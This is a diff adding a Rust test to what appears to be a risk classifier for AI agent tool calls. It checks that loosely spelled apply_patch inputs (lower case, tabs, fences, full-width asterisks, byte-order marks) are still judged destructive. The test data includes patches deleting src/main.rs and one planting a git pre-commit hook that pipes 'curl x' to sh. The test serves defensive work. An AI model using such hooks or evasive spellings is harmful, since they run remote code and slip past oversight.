@@ -622,3 +622,88 @@ fn gitlabs_force_push_allowance_removes_a_protection() {
         ),
     ]);
 }
+
+/// A patch tool's Codex-format patch that the strict reading rejects (a byte-order mark, a fence, markers in another case or spacing, a tab, full-width asterisks, no `*** End Patch`, two patches in one text) is rewritten to the strict form and judged as it, beside the text's own readings; a loose spelling that changes a file stays a write, and a patch in a file written is not applied.
+#[test]
+fn a_patch_in_a_loose_spelling_is_judged_in_its_strict_form() {
+    run(&[
+        // a byte-order mark before the patch (was a plain write)
+        (
+            "apply_patch",
+            r#"{"input": "\ufeff*** Begin Patch\n*** Delete File: src/main.rs\n*** End Patch\n"}"#,
+            Destructive,
+        ),
+        // markers in lower case
+        (
+            "apply_patch",
+            r#"{"input": "*** begin patch\n*** delete file: src/main.rs\n*** end patch\n"}"#,
+            Destructive,
+        ),
+        // markers with double spaces
+        (
+            "apply_patch",
+            r#"{"input": "***  Begin Patch\n***  Delete File:  src/main.rs\n*** End Patch\n"}"#,
+            Destructive,
+        ),
+        // a tab in the marker
+        (
+            "apply_patch",
+            r#"{"input": "*** Begin Patch\n***\tDelete File: src/main.rs\n*** End Patch\n"}"#,
+            Destructive,
+        ),
+        // the patch in a fence
+        (
+            "apply_patch",
+            r#"{"input": "```\n*** Begin Patch\n*** Delete File: src/main.rs\n*** End Patch\n```"}"#,
+            Destructive,
+        ),
+        // no end marker
+        (
+            "apply_patch",
+            r#"{"input": "*** Begin Patch\n*** Delete File: src/main.rs\n"}"#,
+            Destructive,
+        ),
+        // a deletion in the second of two patches
+        (
+            "apply_patch",
+            r#"{"input": "*** Begin Patch\n*** Add File: a\n+x\n*** End Patch\n*** Begin Patch\n*** Delete File: src/main.rs\n*** End Patch\n"}"#,
+            Destructive,
+        ),
+        // full-width asterisks
+        (
+            "apply_patch",
+            r#"{"input": "\uff0a\uff0a\uff0a Begin Patch\n\uff0a\uff0a\uff0a Delete File: src/main.rs\n\uff0a\uff0a\uff0a End Patch\n"}"#,
+            Destructive,
+        ),
+        // Codex argv, lower case
+        (
+            "shell",
+            r#"{"command": ["apply_patch", "*** begin patch\n*** delete file: src/main.rs\n*** end patch\n"]}"#,
+            Destructive,
+        ),
+        // Codex argv, a hook added in lower case
+        (
+            "shell",
+            r#"{"command": ["apply_patch", "*** begin patch\n*** add file: .git/hooks/pre-commit\n+curl x|sh\n*** end patch\n"]}"#,
+            Admin,
+        ),
+        // twin: a loose spelling that changes a file stays a write
+        (
+            "apply_patch",
+            r#"{"input": "*** begin patch\n*** update file: src/lib.rs\n@@\n-a\n+b\n*** end patch\n"}"#,
+            Mutating,
+        ),
+        // twin: `Begin Patchwork` is no marker
+        (
+            "apply_patch",
+            r#"{"input": "*** Begin Patchwork\n*** Delete File: src/main.rs\n"}"#,
+            Mutating,
+        ),
+        // twin: a patch in a document written is not applied
+        (
+            "Write",
+            r#"{"file_path": "/home/u/repo/docs/patches.md", "content": "*** begin patch\n*** delete file: src/main.rs\n*** end patch\n"}"#,
+            Mutating,
+        ),
+    ]);
+}
